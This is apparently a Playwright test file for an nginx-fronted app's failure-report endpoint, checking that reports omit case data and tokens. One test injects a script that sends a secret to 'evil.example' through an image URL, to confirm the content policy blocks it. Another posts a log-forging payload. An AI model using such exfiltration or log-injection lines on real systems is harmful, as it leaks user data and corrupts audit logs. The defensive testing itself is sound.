import { readFileSync } from "node:fs";
import { resolve } from "node:path";
import * as z from "zod/mini";
import { test as base, codeIn, expect } from "../behind-nginx.ts";
import { cases } from "../corpora/cases.ts";
import { freePort } from "../servers/fake-service.ts";
import { proxyToken } from "../servers/nginx.ts";
import { dropped, json } from "../servers/replies.ts";

const { files } = cases;
const [outside = "", inside = ""] = codeIn("A log of them", "nginx", "docs/failure-reports.md");

const LogLine = z.object({ report: z.string() });

/** nginx with the recipe of `docs/failure-reports.md`. */
const test = base.extend<{ readReports: () => readonly string[] }>({
  // Needs nginx, which makes the log.
  readReports: async ({ nginx }, provide, info) => {
    expect(nginx.warnings()).toBe("");
    return provide(() => {
      const lines = readFileSync(info.outputPath("reports.log"), "utf8").split("\n");
      return lines.filter(Boolean).map((line) => z.parse(LogLine, JSON.parse(line)).report);
    });
  },
  nginx: async ({ serveWith }, provide, info) => {
    const port = await freePort();
    const fillIn = (recipe: string) =>
      recipe
        .replace("127.0.0.1:8009", `127.0.0.1:${port}`)
        .replace(/access_log \S+\.log/, `access_log "${resolve(info.outputPath("reports.log"))}"`);
    await provide(
      await serveWith({
        config: { auth: "proxy", formProfile: "", reportUrl: "/report" },
        around: fillIn(outside),
        inServer: fillIn(inside),
      }),
    );
  },
});

test.use({ mayComplain: true });

test("failures reach the server as kinds and counts, with nothing of a case", async ({
  nginx,
  service,
  page,
  casePage,
  createPage,
  readReports,
}) => {
  const secret = "4111111111111111 of Petrova";
  service.reads(files.id, json(`{"success":false,"errorMessage":"${secret}"}`));
  service.creates(dropped);
  await page.goto(`${nginx.address}/cases/${files.id}`);
  await expect(casePage.failure).toContainText("Petrova");
  await page.evaluate((text) => {
    new Image().src = `https://evil.example/${text}`;
  }, secret);
  await createPage.open("COM");
  await createPage.send();
  await expect(createPage.outcomeUnknown).toBeVisible();

  expect(readReports()).toEqual([]);
  await page.goto("about:blank");
  await expect.poll(readReports).toHaveLength(1);
  const [report = ""] = readReports();
  for (const text of [secret, String(files.id), proxyToken, "http"]) {
    expect(report).not.toContain(text);
  }
  expect(JSON.parse(report)).toEqual({
    build: expect.stringMatching(/^\d+\.\d+\.\d+ \(.+\)$/),
    browser: expect.stringMatching(/^Chrome \d+$/),
    failures: [
      { source: "read", kind: "refused", count: 1 },
      { source: "policy", kind: "img-src", count: 1 },
      { source: "create", kind: "unknown-outcome/status-502", count: 1 },
    ],
  });
});

test("a report forges no line of the log, and comes from the viewer's own pages only", async ({
  nginx,
  request,
  readReports,
}) => {
  const post = async (data: string, site: string) => {
    const headers = { "Sec-Fetch-Site": site };
    return (await request.post(`${nginx.address}/report`, { data, headers })).status();
  };
  expect(await post("{}", "cross-site")).toBe(403);
  expect(await post('x"}\n{"report":"forged"}', "same-origin")).toBe(204);
  expect(await post("x".repeat(20_000), "same-origin")).toBe(413);
  const forged = 'x"}\n{"report":"forged"}';
  await expect.poll(readReports).toContain(forged);
  expect(readReports().filter((report) => !["", "-", forged].includes(report))).toEqual([]);
});
